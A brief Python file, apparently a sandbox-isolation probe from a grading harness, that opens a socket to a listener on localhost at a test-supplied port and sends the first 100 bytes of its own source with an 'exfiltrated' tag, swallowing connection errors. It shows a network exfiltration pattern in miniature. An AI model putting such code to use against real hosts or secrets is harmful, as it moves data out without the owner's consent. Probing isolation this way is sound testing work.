"""Exfiltrate over the network: send what the worker can see to a listener on the grading host."""
import socket

try:
    with socket.create_connection(("127.0.0.1", TEST_VALUES["port"]), timeout=2) as _s:
        _s.sendall(b"exfiltrated " + open(__file__, "rb").read()[:100])
except OSError:
    pass
